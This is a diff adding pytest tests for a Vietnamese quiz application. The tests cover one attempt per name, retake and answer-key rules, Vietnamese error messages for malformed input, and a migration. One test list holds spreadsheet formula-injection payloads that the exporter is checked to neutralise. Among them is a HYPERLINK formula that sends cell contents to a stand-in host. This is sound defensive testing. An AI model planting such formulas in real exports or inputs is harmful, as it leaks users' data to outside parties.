@@ -1,0 +1,159 @@
+"""Exam integrity and hostile input: one attempt per name, the key only when allowed, formula-safe
+exports, and a Vietnamese message for every malformed value an API caller can send."""
+
+from __future__ import annotations
+
+import csv
+import json
+import sqlite3
+
+import pytest
+from openpyxl import load_workbook
+
+from corpus.errors import QuizError
+from quiz.db import QuizDB
+from quiz.results import export_results
+from quiz.sessions import MAX_NAME_CHARS, SessionStore
+from tests.quiz.session_items import sample_items
+
+HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+
+
+def hand_in_all_right(store, code, name, browser="", unit=""):
+    items = sample_items()
+    attempt = store.join(code, name, unit, browser)
+    for q in attempt.questions:
+        store.answer(code, attempt.token, q.position, items[q.position].answer)
+    return store.finish(code, attempt.token), attempt
+
+
+def test_formula_names_come_back_as_text_from_xlsx_and_csv(store, tmp_path):
+    code, key = store.create(sample_items())
+    for i, name in enumerate(HOSTILE):
+        attempt = store.join(code, f"{name} {i}" if name.startswith(("\t", "\r")) else name, name[:100], f"b{i}")
+        store.answer(code, attempt.token, attempt.questions[0].position, sample_items()[attempt.questions[0].position].answer)
+    board = store.dashboard(code, key)
+    names = {r.name for r in board.leaderboard}
+
+    book = load_workbook(export_results(board, tmp_path, "xlsx"))
+    cells = [c for row in book["Xếp hạng"].iter_rows(min_row=2) for c in row[1:3]]
+    assert cells and all(c.data_type == "s" for c in cells)
+    values = [c.value for c in cells]
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), values
+    assert {v[1:] for v in values[::2]} == names  # the name itself, behind the apostrophe
+    assert '\'=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào")' in values
+
+    with open(export_results(board, tmp_path, "csv"), encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    written = [row[1] for row in rows[1 : 1 + len(HOSTILE)]]
+    assert sorted(w[1:] for w in written) == sorted(names)
+    assert all(w.startswith("'") for w in written)
+    assert "'=1+1" in written and "'-2+3" in written
+
+
+def test_plain_numbers_and_names_are_left_alone(store, tmp_path):
+    code, key = store.create(sample_items())
+    store.join(code, "Nguyễn Văn An", "Chi bộ 1")
+    book = load_workbook(export_results(store.dashboard(code, key), tmp_path, "xlsx"))
+    assert list(book["Xếp hạng"].values)[1][:4] == (1, "Nguyễn Văn An", "Chi bộ 1", 0)
+
+
+def test_one_attempt_per_name_resumed_only_from_the_same_browser(store):
+    code, key = store.create(sample_items())
+    result, first = hand_in_all_right(store, code, "Nguyễn Văn An", browser="browser-a")
+    # The same name typed differently, from another browser: refused.
+    for other in ("nguyen van an", "NGUYỄN  VĂN AN", "Nguyen Van An"):
+        with pytest.raises(QuizError, match="đã có người dùng"):
+            store.join(code, other, "Chi bộ 9", "browser-b")
+    with pytest.raises(QuizError, match="đã có người dùng"):
+        store.join(code, "Nguyễn Văn An", "", "")  # no browser id at all (a bare API call)
+    # From the same browser: the same attempt, still handed in, no retake.
+    again = store.join(code, "nguyễn văn an", "", "browser-a")
+    assert again.token == first.token and again.finished
+    assert store.result(code, again.token) == result
+    board = store.dashboard(code, key)
+    assert [r.name for r in board.leaderboard] == ["Nguyễn Văn An"] and board.answers == 4
+
+
+def test_unfinished_attempt_resumes_with_its_answers(store):
+    code, _ = store.create(sample_items())
+    first = store.join(code, "Trần Thị Bình", "", "tab-1")
+    store.answer(code, first.token, first.questions[0].position, first.questions[0].options[0])
+    again = store.join(code, "Trần Thị Bình", "", "tab-1")
+    assert (again.token, again.answers, again.finished) == (first.token, first.answers | again.answers, False)
+    assert len(again.answers) == 1
+
+
+def test_retake_only_when_the_trainer_allows_it_and_replaces_the_attempt(store, clock):
+    code, key = store.create(sample_items(), allow_retake=True)
+    hand_in_all_right(store, code, "Lê Văn Cường", browser="b1")
+    clock.now += 100
+    retake = store.join(code, "Lê Văn Cường", "", "b1")
+    assert not retake.finished and retake.answers == {}
+    board = store.dashboard(code, key)
+    assert len(board.leaderboard) == 1 and board.leaderboard[0].correct == 0 and board.answers == 0
+    with pytest.raises(QuizError, match="đã có người dùng"):
+        store.join(code, "Lê Văn Cường", "", "b2")
+
+
+def test_key_shown_at_review_only_when_allowed(store):
+    hidden_code, _ = store.create(sample_items())
+    hidden, _ = hand_in_all_right(store, hidden_code, "An", "b")
+    assert not hidden.show_key and hidden.correct == 4
+    assert all(r.answer == r.explanation == r.citation == "" and r.given for r in hidden.review)
+    shown_code, _ = store.create(sample_items(), show_key=True)
+    shown, _ = hand_in_all_right(store, shown_code, "An", "b")
+    assert shown.show_key and all(r.answer and r.explanation and r.citation for r in shown.review)
+
+
+@pytest.mark.parametrize(
+    "call, message",
+    [
+        (lambda s, c, t: s.join(c, 12345, "", ""), "Họ và tên không hợp lệ"),
+        (lambda s, c, t: s.join(c, "x" * (MAX_NAME_CHARS + 1), "", ""), "Họ và tên quá dài"),
+        (lambda s, c, t: s.join(c, "An", "u" * 100_000, ""), "Đơn vị quá dài"),
+        (lambda s, c, t: s.join(c, ["An"], "", ""), "Họ và tên không hợp lệ"),
+        (lambda s, c, t: s.join(["X"], "An", "", ""), "Mã phiên thi không hợp lệ"),
+        (lambda s, c, t: s.join("Q" * 10_000, "An", "", ""), "Mã phiên thi quá dài"),
+        (lambda s, c, t: s.join("ZZZZZZ", "An", "", ""), "Không tìm thấy phiên thi"),
+        (lambda s, c, t: s.attempt(c, None), "Không tìm thấy bài làm"),
+        (lambda s, c, t: s.attempt(c, {"x": 1}), "Mã bài làm không hợp lệ"),
+        (lambda s, c, t: s.answer(c, t, "0", "Đúng"), "Số thứ tự câu hỏi không hợp lệ"),
+        (lambda s, c, t: s.answer(c, t, True, "Đúng"), "Số thứ tự câu hỏi không hợp lệ"),
+        (lambda s, c, t: s.answer(c, t, -1, "Đúng"), "không có trong phiên"),
+        (lambda s, c, t: s.answer(c, t, 1, None), "Lựa chọn không hợp lệ"),
+        (lambda s, c, t: s.answer(c, t, 1, 3.5), "Lựa chọn không hợp lệ"),
+        (lambda s, c, t: s.answer(c, t, 3, [1, 2]), "Lựa chọn không hợp lệ"),
+        (lambda s, c, t: s.answer(c, t, 1, "x" * 1_000_000), "Lựa chọn quá dài"),
+        (lambda s, c, t: s.dashboard(c, 42), "Khóa phiên thi không hợp lệ"),
+    ],
+)
+def test_malformed_values_get_a_vietnamese_message(store, call, message):
+    code, _ = store.create(sample_items(), shuffle=False)
+    token = store.join(code, "An", "", "b").token
+    with pytest.raises(QuizError, match=message):
+        call(store, code, token)
+
+
+def test_migration_keeps_old_duplicate_names_and_shows_the_key_in_old_sessions(tmp_path):
+    """A database from before m004: duplicates already there survive the new unique rule."""
+    from quiz import db as quiz_db
+
+    path = tmp_path / "old.sqlite"
+    conn = sqlite3.connect(path)
+    conn.row_factory = sqlite3.Row
+    conn.execute("CREATE TABLE _sotay_migrations (name TEXT PRIMARY KEY, applied_at REAL NOT NULL)")
+    for fn in quiz_db.MIGRATIONS[:3]:
+        fn(conn)
+        conn.execute("INSERT INTO _sotay_migrations VALUES (?, 0)", (fn.__name__,))
+    conn.execute("INSERT INTO sessions VALUES (1, 'ABCDEF', 'k', 't', 0, 0, 0, NULL)")
+    conn.execute("INSERT INTO session_items VALUES (1, 0, ?)", (json.dumps(sample_items()[1].to_json()),))
+    for pid, name in ((1, "Nguyễn An"), (2, "nguyen an")):
+        conn.execute("INSERT INTO participants VALUES (?, 1, ?, ?, '', 0, NULL, 1)", (pid, f"tok{pid}", name))
+    conn.commit()
+    conn.close()
+    store = SessionStore(QuizDB(path))
+    assert [r.name for r in store.dashboard("ABCDEF", "k").leaderboard] == ["nguyen an", "Nguyễn An"]
+    assert store.result("ABCDEF", "tok1").show_key
+    with pytest.raises(QuizError, match="đã có người dùng"):
+        store.join("ABCDEF", "Nguyen An", "", "b")  # the name is taken, by either spelling
